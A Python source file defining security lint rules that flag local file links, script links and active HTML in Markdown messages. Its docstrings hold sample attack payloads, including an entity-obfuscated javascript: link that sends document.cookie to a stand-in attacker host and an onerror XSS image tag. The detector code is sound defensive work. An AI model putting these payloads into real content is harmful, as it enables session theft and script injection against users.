"""SEC118 to SEC120: links and HTML in Markdown that have an effect in a careless viewer."""

from __future__ import annotations

from collections.abc import Iterator, Sequence

from talktree.checks.rules.unsafe_files import escape_excerpt, find_text_path
from talktree.checks.support.attachment_content import find_markdown_threats
from talktree.formats.rule import Diagnostic, rule
from talktree.formats.rule_batch import Place, RecordBatch, select_files
from talktree.formats.rule_context import RuleRecord
from talktree.model.parts import Artifact, Attachment, Part, Text
from talktree.text.markdown_scan import MarkdownThreat, can_act, find_unsafe_scheme, scan_markdown

TEXTS = (Text, Attachment, Artifact)
_MARKDOWN = "markdown"


def _select_acting(batch: RecordBatch) -> Sequence[Place]:
    """Return texts that may have an effect, and files."""
    texts = batch.parts.get(Text, ())
    acting = [place for place in texts if isinstance(place[0], Text) and can_act(place[0].text)]
    return [*acting, *select_files(batch)]


def _find_threats(part: Part) -> tuple[MarkdownThreat, ...]:
    match part:
        case Text():
            return scan_markdown(part.text)
        case Attachment():
            return find_markdown_threats(part)
        case Artifact(content=str(text)) if _MARKDOWN in (part.media_type or "").lower():
            return scan_markdown(text)
        case _:
            return ()


def _report_links(part: Part, seen: RuleRecord, kind: str) -> Iterator[Diagnostic]:
    found = [each.detail for each in _find_threats(part) if each.kind == kind]
    if found:
        text = part.text if isinstance(part, Text) else None
        yield Diagnostic(
            escape_excerpt(", ".join(found)), find_text_path(seen, text) if text else ""
        )


@rule("SEC118", "file-link", "note", on="part", glance=_select_acting, parts=TEXTS)
def file_link(part: Part, seen: RuleRecord, number: int) -> Iterator[Diagnostic]:
    """A link in Markdown or the link of an attachment leads to a local file (`file:`).

    Why: it leads nowhere on any other computer, and tells how folders are called on this one. Where
    it names another computer (`file://server/share`), Windows logs in there with the user's
    password hash as soon as it is opened or shown as a picture.

    Bad:
        {"content": "See [the log](file:///home/ana/secret/run.log)."}

    Fix: none, because the file itself is not here; attach it, or name its path as text.
    """
    if isinstance(part, Attachment) and part.url and find_unsafe_scheme(part.url) == "file":
        yield Diagnostic(
            "the link of an attachment leads to a local file", find_text_path(seen, part.url)
        )
    yield from _report_links(part, seen, "file-link")


@rule("SEC119", "script-in-markdown-link", "warning", on="part", glance=_select_acting, parts=TEXTS)
def script_in_markdown_link(part: Part, seen: RuleRecord, number: int) -> Iterator[Diagnostic]:
    """A link or a picture in Markdown, or in HTML within it, is a script (`javascript:`,
    `vbscript:`) or a page of its own (`data:text/html`). Entities, blanks and escapes in it do not
    hide it, and what is in code is not a link.

    Why: a viewer that lets it through runs the script in its own name when the link is clicked.

    Bad:
        {"content": "[Reset password](java&#115;cript:fetch('https://evil.example/'+document.cookie))"}

    Fix: none, because the words around it may be about just that; Talktree's own viewers show such
    a link as text.
    """
    if not isinstance(part, Artifact):  # SEC111 checks what the assistant made
        yield from _report_links(part, seen, "script-link")


@rule("SEC120", "active-html", "warning", on="part", glance=_select_acting, parts=TEXTS)
def active_html(part: Part, seen: RuleRecord, number: int) -> Iterator[Diagnostic]:
    """Markdown holds HTML that acts: a script, an event handler, a frame, an embedded object, or a
    tag that changes where links lead. What is in code is not HTML, and a bare placeholder such as
    `npm run <script>` is not reported.

    Why: a viewer that lets HTML through runs it in its own name.

    Bad:
        {"content": "Look: <img src=x onerror=\\"alert(document.cookie)\\">"}

    Fix: none, because it may be what the message is about; put it into a block of code. Talktree's
    own viewers show it as text.
    """
    yield from _report_links(part, seen, "active-html")
